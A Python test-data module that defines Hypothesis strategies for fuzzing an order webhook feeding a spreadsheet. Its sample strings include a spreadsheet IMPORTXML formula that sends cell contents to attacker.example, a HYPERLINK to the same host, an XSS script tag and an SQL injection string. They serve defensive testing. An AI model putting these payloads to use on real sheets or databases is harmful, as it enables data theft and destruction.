"""What an attacker, a broken sender or a customer with humour may write."""

import json
from typing import Any

from hypothesis import strategies as st

TEXTS = (
    "=1+2",
    '=IMPORTXML("http://attacker.example/?d="&A1,"//x")',
    "+49 151 2345678",
    "-1+1",
    "@SUM(A1:A9)",
    "'007",
    "007",
    "1E5",
    "TRUE",
    "2026-01-02",
    "1.000,50",
    "9007199254740993",
    "#REF",
    '=HYPERLINK("http://attacker.example","Click")',
    "<script>alert(1)</script>",
    "'; DROP TABLE orders; --",
    "{{7*7}} ${7*7} %s %(x)s",
    "a\nb\tc",
    "\u200ftfel ot thgir\u200e \u200b\ufeff\ufffe",
    "👨‍👩‍👧‍👦" * 18,
    "e\u0301" * 50,
    "waiting · 1",
)
"""None of these is changed by the cleaning, so they must stand in the sheet exactly so."""

BEYOND_JSON = float("inf")
"""Stands for a number that JSON can write and no float can hold."""

numbers = st.one_of(
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(
        [0, -0.0, 2**53, 2**53 + 1, 2**63, -(2**63) - 1, 10**400, 1e15, -1e15, 1e308, 5e-324, 0.1, 1e-7, BEYOND_JSON]
    ),
)
texts = st.one_of(
    st.text(max_size=40),
    st.text(st.characters(), max_size=20),
    st.text(st.sampled_from("\x00\x01\x1b\x7f\x85\x9b\ud800\udfff\u2028\ufffe\r\n\t =+-@'1a😀"), max_size=20),
    st.sampled_from(TEXTS),
    st.sampled_from(
        ["", " ", "3", "3.50", "1e999", "-0", "٣", "9" * 30, "NaN", "Infinity", "x" * 60_000, "😀" * 40_000]
    ),
)
values = st.recursive(
    st.none() | st.booleans() | numbers | texts,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=6,
)
times = st.one_of(
    values,
    st.sampled_from(
        ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-11-23T10:00:00+01:00", 1713264543, 1e11, 1e14]
    ),
)
order_ids = st.one_of(values, texts, st.text(st.sampled_from("123"), min_size=1, max_size=2))
items = st.dictionaries(
    st.sampled_from(
        [
            "id",
            "product_id",
            "product_retailer_id",
            "sku",
            "name",
            "quantity",
            "price",
            "item_price",
            "currency",
            "image",
        ]
    ),
    values | numbers | texts,
)
answers = st.one_of(values, st.fixed_dictionaries({"items": st.lists(items, min_size=1, max_size=3)}))
"""What Whapi might answer when it is asked for items."""
bare = st.fixed_dictionaries(
    {"order_id": order_ids},
    optional={
        "order_token": values,
        "from": values,
        "received_at": times,
        "items": st.lists(items, max_size=3) | values,
        **dict.fromkeys(
            ("channel_id", "customer_name", "title", "note", "item_count", "total_price", "currency"), values
        ),
    },
)
messages = st.fixed_dictionaries(
    {
        "type": st.sampled_from(["order", "order", "order", "text", 7]),
        "order": st.fixed_dictionaries(
            {"order_id": order_ids},
            optional=dict.fromkeys(
                ("token", "title", "text", "item_count", "total_price", "currency", "preview"), values
            ),
        ),
    },
    optional={
        "timestamp": times,
        **dict.fromkeys(("from", "from_name", "from_me", "chat_id", "chat_name", "channel_id"), values),
    },
)
payloads = st.fixed_dictionaries(
    {"messages": st.lists(messages | values, max_size=3) | values}, optional={"channel_id": values, "event": values}
)
bodies = st.one_of(values, bare, messages, payloads, st.lists(bare | messages | payloads | values, max_size=3))


def as_json(body: Any) -> str:
    """The body as it comes over the wire, with numbers beyond every float written out."""
    return json.dumps(body).replace("Infinity", "1e999")
